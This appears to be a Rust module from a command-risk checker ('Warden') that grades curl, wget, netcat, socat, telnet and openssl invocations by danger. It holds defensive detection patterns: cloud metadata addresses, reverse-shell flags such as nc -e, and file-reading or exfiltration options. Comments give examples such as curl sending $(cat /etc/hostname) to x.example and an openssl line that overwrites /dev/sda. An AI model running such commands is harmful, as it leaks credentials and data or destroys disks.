//! Network transfers and raw connections: `curl` and `wget` are medium (they reach the
//! network), high when they write a file; `nc`, `socat` and `telnet` are medium, and forbidden
//! when they hand a shell to the network; `openssl` inspects certificates (low) unless it writes
//! files or uses keys.

use super::{Ctx, Judgement, Operands, apply};
use crate::level::RiskLevel;
use crate::options::{Opt, Spec, flag, parse, reads, runs, value, writes};

const CURL: &[Opt] = &[
    writes("o|output"),
    flag("O|remote-name"),
    flag("remote-name-all"),
    writes("D|dump-header"),
    writes("c|cookie-jar"),
    writes("trace"),
    writes("trace-ascii"),
    writes("stderr"),
    writes("libcurl"),
    writes("etag-save"),
    reads("K|config"),
    flag("J|remote-header-name"),
    value("unix-socket"),
    value("abstract-unix-socket"),
    // Every other option curl has that Warden knows, so that a cluster (`-so FILE`, `-sK
    // FILE`, `-LO`) is read to its end: an unknown letter stops the reading, and what follows
    // it may be a writer. Files a cache option writes are writes (`--hsts`, `--alt-svc`).
    writes("hsts"),
    writes("alt-svc"),
    reads("T|upload-file"),
    flag("0|http1.0"),
    flag("1|tlsv1"),
    flag("2|sslv2"),
    flag("3|sslv3"),
    flag("4|ipv4"),
    flag("6|ipv6"),
    flag("f|fail"),
    flag("fail-with-body"),
    flag("g|globoff"),
    flag("G|get"),
    flag("I|head"),
    flag("i|include"),
    flag("k|insecure"),
    flag("l|list-only"),
    flag("L|location"),
    flag("N|no-buffer"),
    flag("p|proxytunnel"),
    flag("R|remote-time"),
    flag("s|silent"),
    // As the first option: skip ~/.curlrc (judged on `ssh_exec`, `programs/uncontained.rs`).
    flag("q|disable"),
    flag("S|show-error"),
    flag("v|verbose"),
    flag("V|version"),
    flag("#|progress-bar"),
    flag("compressed"),
    flag("http1.1"),
    flag("http2"),
    flag("http3"),
    flag("ssl-reqd"),
    flag("tlsv1.2"),
    flag("tlsv1.3"),
    flag("no-progress-meter"),
    flag("no-keepalive"),
    flag("path-as-is"),
    flag("raw"),
    flag("location-trusted"),
    value("A|user-agent"),
    value("b|cookie"),
    value("C|continue-at"),
    value("d|data"),
    value("data-raw"),
    value("data-binary"),
    value("data-urlencode"),
    value("data-ascii"),
    value("e|referer"),
    value("F|form"),
    value("H|header"),
    value("m|max-time"),
    value("r|range"),
    value("u|user"),
    value("U|proxy-user"),
    value("x|proxy"),
    value("X|request"),
    value("y|speed-time"),
    value("Y|speed-limit"),
    value("z|time-cond"),
    value("w|write-out"),
    value("connect-timeout"),
    value("retry"),
    value("retry-delay"),
    value("retry-max-time"),
    value("max-redirs"),
    value("resolve"),
    value("connect-to"),
    value("url"),
    value("noproxy"),
    value("cacert"),
    value("capath"),
    value("output-dir"),
    flag("create-dirs"),
    // Bodies: each makes the request a POST unless `-G` puts the data in the URL
    // (`requests.rs`).
    value("json"),
    value("form-string"),
];
const WGET: &[Opt] = &[
    writes("O|output-document"),
    writes("o|output-file"),
    writes("a|append-output"),
    value("P|directory-prefix"),
    reads("i|input-file"),
    flag("q|quiet"),
    flag("S|server-response"),
    flag("spider"),
    // Skips ~/.wgetrc and /etc/wgetrc (judged on `ssh_exec`, `programs/uncontained.rs`).
    flag("no-config"),
    // A wgetrc command (`use_askpass=PROGRAM` runs it, `output_document=F` writes F) and a
    // wgetrc file of the line's choosing.
    runs("e|execute"),
    runs("config"),
    runs("use-askpass"),
    // Uploaded: their contents leave the host.
    reads("post-file"),
    reads("body-file"),
    flag("v|verbose"),
    flag("no-verbose"),
    // `-nv`, `-nc`, `-nd`, `-nH`: a letter that turns a default off.
    value("n"),
    flag("no-clobber"),
    value("T|timeout"),
    value("t|tries"),
    value("U|user-agent"),
    value("header"),
    flag("no-check-certificate"),
    flag("4|inet4-only"),
    flag("6|inet6-only"),
    // The request's method and body (`requests.rs`): only a reading method is the transfer's
    // medium.
    value("method"),
    value("post-data"),
    value("body-data"),
];

/// openssl options whose value is a file it reads.
const OPENSSL_READS: &[&str] = &["-in", "-CAfile", "-CApath", "-cert", "-untrusted"];
/// openssl options whose value is a file it writes.
const OPENSSL_WRITES: &[&str] = &[
    "-out",
    "-keyout",
    "-sess_out",
    "-msgfile",
    "-keylogfile",
    "-writerand",
];
/// openssl options that use keys or passwords, or load code.
const OPENSSL_KEYS: &[&str] = &[
    "-key",
    "-signkey",
    "-CAkey",
    "-passin",
    "-pass",
    "-engine",
    "-provider",
    "-provider-path",
    "-config",
];
/// openssl options with an inert value.
const OPENSSL_VALUED: &[&str] = &[
    "-connect",
    "-servername",
    "-inform",
    "-outform",
    "-nameopt",
    "-certopt",
    "-dateopt",
    "-checkend",
    "-starttls",
    "-purpose",
];
/// openssl flags that only choose what is printed.
const OPENSSL_FLAGS: &[&str] = &[
    "-noout",
    "-text",
    "-dates",
    "-subject",
    "-issuer",
    "-serial",
    "-fingerprint",
    "-enddate",
    "-startdate",
    "-ext",
    "-email",
    "-ocsp_uri",
    "-pubkey",
    "-modulus",
    "-hash",
    "-sha256",
    "-sha1",
    "-md5",
    "-nocert",
    "-ocspid",
    "-alias",
    "-ext_all",
    "-noverify",
    "-tls1_2",
    "-tls1_3",
    "-showcerts",
    "-verify_return_error",
    "-brief",
];

/// Whether a word names a cloud metadata service (link-local `169.254.0.0/16` in its dotted,
/// decimal, hex or octal spelling, AWS's IPv6 `fd00:ec2::254` and `instance-data`, Alibaba's
/// `100.100.100.200`, Google's `metadata.google.internal`, `metadata` and `computeMetadata`).
fn metadata_address(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    lower.contains("169.254.")
        || lower.contains("2852039166")
        || lower.contains("0xa9fea9fe")
        || lower.contains("0xa9.0xfe.")
        || lower.contains("0251.0376.")
        || lower.contains("a9fe:a9fe")
        || lower.contains("fd00:ec2::254")
        || lower.contains("100.100.100.200")
        || lower.contains("metadata.google.internal")
        || lower.contains("metadata.goog")
        || lower.contains("metadata.azure")
        || lower.contains("instance-data")
        // Google's short name (`http://metadata/`) and its API's path on any name.
        || lower.contains("//metadata/")
        || lower.contains("//metadata:")
        || lower.ends_with("//metadata")
        || lower.contains("computemetadata")
}

/// Raises `j` to high when a word of the line names a cloud metadata service: what it answers
/// at any path (a listing, `?recursive=true`, `user-data`) leads to the instance's role
/// credentials and tokens, whatever the path's spelling says.
fn reaches_metadata(name: &str, args: &[String], j: &mut Judgement) {
    if let Some(address) = args.iter().find(|word| metadata_address(word)) {
        j.raise(
            RiskLevel::High,
            format!(
                "{name} {address}: reaches the cloud metadata service, which hands out the instance's credentials and tokens"
            ),
        );
    }
}

/// The local path a `file:` URL names (`file:///etc/x`, `FILE://localhost/etc/x`,
/// `file:/etc/x`, percent escapes decoded), if `word` is one (alone or as an option's value).
fn file_url(word: &str) -> Option<String> {
    let url = word.split_once('=').map_or(word, |(_, value)| value);
    let at = url.to_ascii_lowercase().find("file:")?;
    let rest = &url[at + 5..];
    let path = match rest.strip_prefix("//") {
        Some(authority) => &authority[authority.find('/')?..],
        None => rest,
    };
    let path = path.split(['?', '#']).next().unwrap_or(path);
    let mut out = Vec::with_capacity(path.len());
    let bytes = path.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%'
            && let Some(hex) = path.get(i + 1..i + 3)
            && let Ok(byte) = u8::from_str_radix(hex, 16)
        {
            out.push(byte);
            i += 3;
            continue;
        }
        out.push(bytes[i]);
        i += 1;
    }
    Some(String::from_utf8_lossy(&out).into_owned())
}

/// What makes a curl or wget request one that may change the service it reaches
/// (`requests.rs`), if anything does: a method outside the reading ones (`-X`/`--request`,
/// wget's `--method`, the last one given counting), a body without a reading method (curl's
/// `-d`/`--data*` without `-G`, `-F`, `--form-string`, `--json`, `-T`, which make it a POST or
/// a PUT; wget's `--post-data`/`--post-file`, always a POST, and `--body-data`/`--body-file`),
/// a method override header, or headers read from a file the line does not show.
fn changing_request(name: &str, parsed: &crate::options::Parsed) -> Option<String> {
    let method = parsed
        .values(if name == "curl" { "request" } else { "method" })
        .last();
    if let Some(method) = method.filter(|method| !super::requests::reads(method)) {
        return Some(format!("{name} with the method {method}"));
    }
    let read_method = method.is_some();
    for found in &parsed.found {
        let option = found.opt.names;
        let body = match name {
            "curl" => match option {
                "d|data" | "data-raw" | "data-binary" | "data-urlencode" | "data-ascii" => {
                    !parsed.has("get") && !read_method
                }
                "F|form" | "form-string" | "json" | "T|upload-file" => !read_method,
                _ => false,
            },
            _ => match option {
                "post-data" | "post-file" => true,
                "body-data" | "body-file" => !read_method,
                _ => false,
            },
        };
        if body {
            return Some(format!("{name} {} (a request with a body)", found.spelled));
        }
        if matches!(option, "H|header" | "header")
            && let Some(header) = found.value
        {
            if header.starts_with('@') {
                return Some(format!(
                    "{name} {} (headers from a file may override the method)",
                    found.spelled
                ));
            }
            if let Some(overridden) = super::requests::overridden_method(header)
                && !super::requests::reads(overridden)
            {
                return Some(format!("{name} {} {header}", found.spelled));
            }
        }
    }
    None
}

/// Raises `j` to high when a word of the line reaches an administrative API of this host
/// (`local_api.rs`): its address is parsed, in every spelling, before it is judged. Separate
/// `HOST PORT` words (`nc 127.1 2375`, `telnet localhost 2375`) are read as one address.
fn reaches_local_admin(name: &str, args: &[String], j: &mut Judgement) {
    let pairs = args
        .windows(2)
        .filter(|pair| !pair[0].starts_with('-') && pair[1].parse::<u16>().is_ok())
        .map(|pair| format!("{}:{}", pair[0], pair[1]));
    let words = args.iter().cloned().chain(pairs);
    for word in words {
        if let Some(why) = super::local_api::local_admin(&word) {
            j.raise(RiskLevel::High, format!("{name} {why}"));
            return;
        }
    }
}

/// openssl: certificate and connection inspection (`x509`, `s_client`, `version`...) without
/// output files or keys.
/// OpenSSL's commands load a certificate, a CRL or a request named by an `http://` URL over
/// the network (and OSSL_STORE takes other schemes): the URL carries whatever the line puts in
/// it.
fn fetches(source: &str, j: &mut Judgement) {
    if source.contains("://") || source.to_ascii_lowercase().starts_with("http:") {
        j.raise(
            RiskLevel::Medium,
            format!("openssl {source}: fetches a URL, which can carry data out"),
        );
    }
}

fn openssl(ctx: &Ctx, args: &[String]) -> Judgement {
    let mut j = Judgement::low("inspects certificates");
    match args.first().map(String::as_str) {
        Some("version") => {}
        Some("x509" | "crl" | "req" | "verify" | "s_client" | "ciphers") => {
            if args.first().map(String::as_str) == Some("s_client") {
                // A connection like curl's: anywhere is medium, cloud metadata is refused.
                j.raise(
                    RiskLevel::Medium,
                    "openssl s_client connects to the network",
                );
                reaches_local_admin("openssl s_client", args, &mut j);
                if let Some(address) = args.iter().find(|a| metadata_address(a)) {
                    j.raise(
                        RiskLevel::Forbidden,
                        format!(
                            "openssl s_client {address}: cloud metadata services hand out credentials"
                        ),
                    );
                }
            }
            let mut i = 1;
            while let Some(arg) = args.get(i) {
                i += 1;
                let word = arg.as_str();
                if OPENSSL_READS.contains(&word) {
                    if let Some(path) = args.get(i) {
                        j.raise_path(ctx.read(path));
                        fetches(path, &mut j);
                    }
                    i += 1;
                } else if OPENSSL_WRITES.contains(&word) {
                    j.raise(RiskLevel::High, format!("openssl {word} writes a file"));
                    i += 1;
                } else if OPENSSL_KEYS.contains(&word) {
                    j.raise(
                        RiskLevel::High,
                        format!("openssl {word} uses keys or passwords, or loads code"),
                    );
                    i += 1;
                } else if OPENSSL_VALUED.contains(&word) {
                    i += 1;
                } else if word.starts_with('-') && !OPENSSL_FLAGS.contains(&word) {
                    j.raise(
                        RiskLevel::Medium,
                        format!("openssl: {word} is not an option known to be harmless"),
                    );
                } else if !word.starts_with('-') {
                    // `verify`'s operands are the certificates it reads (a terminal or the
                    // kernel's log pipe among them); the other commands take none.
                    j.raise_path(ctx.read(word));
                    fetches(word, &mut j);
                }
            }
        }
        Some(other) => j.raise(
            RiskLevel::Medium,
            format!("openssl {other} is not known to be read-only"),
        ),
        None => j.raise(
            RiskLevel::Medium,
            "openssl without a command reads commands from its input",
        ),
    }
    // Whatever the command, the files its output options name are written (`openssl enc -in
    // /dev/zero -out /dev/sda` writes the disk; `--out` is the same option in OpenSSL 3).
    for pair in args.windows(2) {
        let option = pair[0]
            .strip_prefix('-')
            .filter(|rest| rest.starts_with('-'))
            .unwrap_or(&pair[0]);
        if OPENSSL_WRITES.contains(&option) {
            let (level, reason) = ctx.paths.write(&pair[1]);
            j.raise(
                level.max(RiskLevel::High),
                format!("openssl {} writes a file: {reason}", pair[0]),
            );
        }
    }
    j
}

pub fn judge(ctx: &Ctx, name: &str, args: &[String]) -> Option<Judgement> {
    Some(match name {
        "curl" | "wget" | "wget2" => {
            let opts = if name == "curl" { CURL } else { WGET };
            let parsed = parse(args, &Spec::gnu(opts));
            let mut j = Judgement::new(RiskLevel::Medium, "network transfer");
            for found in &parsed.found {
                match (found.opt.role, &found.value) {
                    (crate::options::Role::Writes, Some(path)) => {
                        let (level, reason) = ctx.paths.write(path);
                        j.raise(level, format!("{name} {}: {reason}", found.spelled));
                    }
                    (crate::options::Role::Runs, _) => j.raise(
                        RiskLevel::High,
                        format!(
                            "{name} {}: runs a program or a configuration command the line chooses (use_askpass, output_document)",
                            found.spelled
                        ),
                    ),
                    (crate::options::Role::Reads, Some(path)) => j.raise_path(ctx.read(path)),
                    _ => {}
                }
            }
            if (name == "curl" && parsed.has("remote-name"))
                || (name != "curl" && !parsed.has("output-document") && !parsed.has("spider"))
            {
                j.raise(
                    RiskLevel::High,
                    format!("{name} saves what it downloads to a file"),
                );
            }
            apply(ctx, name, &parsed, Operands::Inert, &mut Judgement::low(""));
            if let Some(what) = changing_request(name, &parsed) {
                super::requests::raise(&mut j, &what);
            }
            reaches_metadata(name, args, &mut j);
            reaches_local_admin(name, args, &mut j);
            // A URL, header or value built from a command's output or a variable (`curl
            // http://x.example/?d=$(cat /etc/hostname)`, `-H "X: $TOKEN"`) puts the machine's
            // data in the request itself, whatever its method: a human decides.
            if let Some(built) = args
                .iter()
                .find(|w| w.contains("__substitution__") || w.contains(['$', '`']))
            {
                j.raise(
                    RiskLevel::High,
                    format!("{name} {built}: built from a command's output or a variable when the line runs, it sends the machine's data with the request"),
                );
            }
            // What curl uploads from a file is read: `-d @FILE`, `--data-binary @FILE`,
            // `--data-urlencode NAME@FILE`, `-F NAME=@FILE` or `NAME=<FILE`, `-H @FILE`, and a
            // cookie value without `=` (a cookie file).
            if name == "curl" {
                for found in &parsed.found {
                    let Some(value) = found.value else { continue };
                    let file = match found.opt.names {
                        "d|data" | "data-binary" | "data-ascii" | "H|header" => {
                            value.strip_prefix('@')
                        }
                        "data-urlencode" => value.split_once('@').map(|(_, file)| file),
                        "F|form" => value.split_once('=').and_then(|(_, content)| {
                            content
                                .strip_prefix('@')
                                .or_else(|| content.strip_prefix('<'))
                                .map(|file| file.split(';').next().unwrap_or(file))
                        }),
                        "b|cookie" if !value.contains('=') => Some(value),
                        _ => None,
                    };
                    if let Some(file) = file.filter(|f| !f.is_empty() && *f != "-") {
                        j.raise_path(ctx.read(file));
                    }
                }
            }
            // `file://` URLs (in any case, `file:/x`, `file://localhost/x`) read a local file and
            // print it, as `cat` would.
            for word in args {
                if let Some(path) = file_url(word) {
                    j.raise_path(ctx.read(&path));
                }
            }
            // An option Warden does not know may write a file (and in a cluster, the letters
            // after it are not read at all: `-Zo FILE`).
            if let Some(problem) = parsed.problems.first() {
                j.raise(
                    RiskLevel::High,
                    format!("{name}: {problem}, which may write a file or run a program"),
                );
            }
            // `-w '%output{FILE}…'` (curl 8.3 and later) writes what follows to FILE.
            if parsed
                .values("write-out")
                .any(|format| format.contains("%output{") || format.contains("%{output"))
            {
                j.raise(RiskLevel::High, "curl -w %output{FILE}: writes to a file");
            }
            // A configuration file holds options as the line would: `output = /etc/cron.d/x`,
            // `url = http://169.254.169.254/...`, `upload-file`, none of them on the line.
            if name == "curl" && parsed.has("config") {
                j.raise(
                    RiskLevel::High,
                    "curl -K: its configuration file chooses what to fetch and where to write, out of the line's sight",
                );
            }
            // A local socket is a service's own API, root's where it is docker's or
            // containerd's (`POST /containers/create` with the host's root mounted).
            if let Some(found) = parsed
                .found
                .iter()
                .find(|found| matches!(found.opt.names, "unix-socket" | "abstract-unix-socket"))
            {
                j.raise(
                    RiskLevel::High,
                    format!(
                        "{name} {}: talks to a local service's socket (docker's API is root's)",
                        found.spelled
                    ),
                );
            }
            // wget2 was an unknown program before it was read with wget's table: what that
            // judged (every word a file it may open, a destructive command among its words)
            // still counts where it is stricter.
            if name == "wget2" {
                let unknown = super::unknown(ctx, name, args);
                if unknown.level > j.level {
                    return Some(unknown);
                }
            }
            j
        }
        "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
            let shell = args.iter().any(|x| {
                let lower = x.to_lowercase();
                matches!(x.as_str(), "-e" | "-c")
                    || runs_a_program(x)
                    || (x.starts_with('-')
                        && !x.starts_with("--")
                        && (x.contains('e') || x.contains('c'))
                        && name != "socat")
                    || lower.starts_with("exec:")
                    || lower.starts_with("system:")
            });
            if shell {
                Judgement::new(RiskLevel::Forbidden, "opens a shell to the network")
            } else {
                let mut j = Judgement::new(RiskLevel::Medium, "raw network connection");
                reaches_metadata(name, args, &mut j);
                reaches_local_admin(name, args, &mut j);
                // A local socket is a service's own API, as curl's --unix-socket is: `nc -U`,
                // `ncat --unixsock`, socat's UNIX-CONNECT:, UNIX:, ABSTRACT-CONNECT:...
                if let Some(word) = args.iter().find(|word| {
                    let lower = word.to_ascii_lowercase();
                    let short_u = name != "socat"
                        && word.starts_with('-')
                        && !word.starts_with("--")
                        && word.contains('U');
                    short_u
                        || lower.starts_with("--unixsock")
                        || lower.starts_with("unix")
                        || lower.starts_with("abstract")
                        || lower.starts_with("gopen")
                        || lower.starts_with("open:")
                }) {
                    j.raise(
                        RiskLevel::High,
                        format!("{name} {word}: talks to a local service's socket or opens a file (docker's API is root's)"),
                    );
                }
                j
            }
        }
        "openssl" => openssl(ctx, args),
        _ => return None,
    })
}

/// Whether an ncat word names a program to connect to the network (`--exec`, `--sh-exec`,
/// `--lua-exec`), with its value attached (`--exec=/bin/sh`) or as any prefix getopt_long
/// would take for it (`--exe`, `--sh-e`, `--lua`; an ambiguous one such as `--l` is taken as
/// the most dangerous option it may be).
fn runs_a_program(word: &str) -> bool {
    let Some(long) = word.strip_prefix("--") else {
        return false;
    };
    let long = long.split('=').next().unwrap_or(long);
    !long.is_empty()
        && ["exec", "sh-exec", "lua-exec"]
            .iter()
            .any(|name| name.starts_with(long))
}
